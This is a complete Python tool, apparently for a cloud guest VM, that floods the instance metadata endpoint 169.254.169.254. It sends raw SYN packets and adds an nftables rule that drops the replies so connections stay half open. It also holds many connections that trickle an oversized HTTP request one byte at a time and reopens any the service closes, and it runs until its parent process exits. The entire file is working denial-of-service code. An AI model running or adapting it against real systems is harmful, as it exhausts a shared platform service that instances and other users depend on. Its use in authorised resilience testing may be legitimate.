"""Holds connections half open, from within a guest, for as long as it is not ended: half-open.py COUNT

Half of them get no further than a SYN: the guest never answers the service's SYN-ACK. The others are established
and send a request byte by byte; whichever the service ends is begun again. SYNS and CONNECTS a second are tried."""

import errno
import itertools
import os
import selectors
import socket
import struct
import subprocess
import sys
import time

SERVICE = ("169.254.169.254", 80)
SYNS, CONNECTS = 300, 150
FIRST_PORT = 20_000  # of those that are only SYNs: below what the kernel gives to connections of its own
BEGINNING = b"GET /metadata/v1/instance?version=2025-08-26 HTTP/1.1\r\nHost: 169.254.169.254\r\nX-Filler: " + b"a" * 8000
DEAF = """
table inet deaf
delete table inet deaf
table inet deaf {
  chain in {
    type filter hook input priority 0
    tcp sport 80 tcp dport %d-%d tcp flags & (syn | ack) == syn | ack drop
  }
}
"""


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(SERVICE)
        return probe.getsockname()[0]


def syn(source, port):
    addresses = socket.inet_aton(source) + socket.inet_aton(SERVICE[0])
    segment = struct.pack("!HHIIBBHHH", port, SERVICE[1], port * 7919, 0, 5 << 4, 2, 64240, 0, 0)
    words = struct.unpack("!16H", addresses + struct.pack("!HH", 6, len(segment)) + segment)
    total = sum(words)
    total = (total >> 16) + (total & 0xFFFF)
    checksum = ~(total + (total >> 16)) & 0xFFFF
    return segment[:16] + struct.pack("!H", checksum) + segment[18:]


class Slow:
    """Established connections, each sending one byte a second."""

    def __init__(self, most):
        self.most, self.open, self.selector = most, {}, selectors.DefaultSelector()

    def begin(self):
        if len(self.open) < self.most:
            sock = socket.socket()
            sock.setblocking(False)
            if sock.connect_ex(SERVICE) in (0, errno.EINPROGRESS):
                self.open[sock] = 0
                self.selector.register(sock, selectors.EVENT_READ)

    def reap(self):
        for key, _ in self.selector.select(0):
            self.end(key.fileobj)

    def drip(self):
        for sock, sent in list(self.open.items()):
            try:
                self.open[sock] = sent + sock.send(BEGINNING[sent : sent + 1])
            except BlockingIOError:
                pass
            except OSError:
                self.end(sock)

    def end(self, sock):
        self.selector.unregister(sock)
        del self.open[sock]
        sock.close()


def main(count):
    syns = count // 2
    subprocess.run(["nft", "-f", "-"], input=DEAF % (FIRST_PORT, FIRST_PORT + syns - 1), text=True, check=True)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    source = own_address()
    packets = itertools.cycle([syn(source, FIRST_PORT + i) for i in range(syns)])
    slow = Slow(count - syns)
    for tick in itertools.count():
        for _ in range(SYNS // 50):
            raw.sendto(next(packets), SERVICE)
        for _ in range(CONNECTS // 50):
            slow.begin()
        slow.reap()
        if tick % 50 == 0:
            slow.drip()
        if os.getppid() == 1:
            sys.exit()
        time.sleep(0.02)


main(int(sys.argv[1]))
